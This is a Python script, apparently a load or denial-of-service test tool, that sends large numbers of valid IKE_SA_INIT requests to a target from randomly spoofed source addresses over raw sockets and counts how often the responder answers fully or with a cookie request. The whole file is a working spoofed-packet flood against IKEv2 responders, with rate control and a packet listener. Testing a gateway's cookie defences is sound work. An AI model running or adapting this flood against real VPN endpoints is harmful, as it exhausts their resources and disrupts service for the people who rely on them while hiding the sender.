#!/usr/bin/env python3
"""Sends IKE_SA_INIT requests from many made-up source addresses, and counts what is answered.

usage: flood.py TARGET PREFIX16 COUNT RATE        e.g. flood.py 192.0.2.1 10.200 100000 20000
Each is a valid request (AES-GCM-128, PRF-HMAC-SHA2-256, X25519) with its own SPI, key and nonce. Prints one JSON object:
what was sent, and how many answers were full responses, cookie requests, or something else.
"""
import json
import os
import random
import socket
import struct
import sys
import threading
import time


def payload(next_type, body):
    return struct.pack('!BBH', next_type, 0, 4 + len(body)) + body


def transform(last, kind, number, key_length=None):
    attribute = struct.pack('!HH', 0x800e, key_length) if key_length else b''
    return struct.pack('!BBHBBH', 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def sa_init(spi, public, nonce):
    """RFC 7296 section 1.2: HDR, SAi1, KEi, Ni."""
    transforms = transform(False, 1, 20, 128) + transform(False, 2, 5) + transform(True, 4, 31)
    proposal = struct.pack('!BBHBBBB', 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = payload(34, proposal) + payload(40, struct.pack('!HH', 31, 0) + public) + payload(0, nonce)
    return spi + bytes(8) + struct.pack('!BBBBII', 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def checksum_free(source, target, data):
    """An IPv4 and a UDP header; the kernel fills in the IP checksum, and UDP over IPv4 may do without."""
    udp = struct.pack('!HHHH', 500, 500, 8 + len(data), 0) + data
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target) + udp


def listen(counts, stop):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sock.settimeout(0.2)
    while not stop.is_set():
        try:
            packet, where = sock.recvfrom(4096)
        except TimeoutError:
            continue
        if where[2] == socket.PACKET_OUTGOING or len(packet) < 56 or packet[9] != 17:
            continue
        ike = packet[(packet[0] & 15) * 4 + 8:]
        if len(ike) < 28 or ike[18] != 34 or not ike[19] & 0x20:
            continue
        if ike[16] == 33:
            counts['full responses'] += 1
        elif ike[16] == 41 and ike[34:36] == struct.pack('!H', 16390):
            counts['cookie requests'] += 1
        else:
            counts['other answers'] += 1


def main():
    target, prefix, count, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    random.seed(1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    counts = {'sent': 0, 'full responses': 0, 'cookie requests': 0, 'other answers': 0}
    stop = threading.Event()
    listener = threading.Thread(target=listen, args=(counts, stop))
    listener.start()
    a, b = map(int, prefix.split('.'))
    raw_target = socket.inet_aton(target)
    start = time.monotonic()
    for n in range(count):
        if n % 64 == 0:
            while (wait := start + n / rate - time.monotonic()) > 0:
                time.sleep(wait)
        source = bytes((a, b, random.randrange(1, 255), random.randrange(1, 255)))
        request = sa_init(os.urandom(8), os.urandom(32), os.urandom(32))
        try:
            sock.sendto(checksum_free(source, raw_target, request), (target, 0))
            counts['sent'] += 1
        except OSError:
            pass
    counts['seconds'] = round(time.monotonic() - start, 1)
    time.sleep(1)
    stop.set()
    listener.join()
    print(json.dumps(counts))


if __name__ == '__main__':
    main()
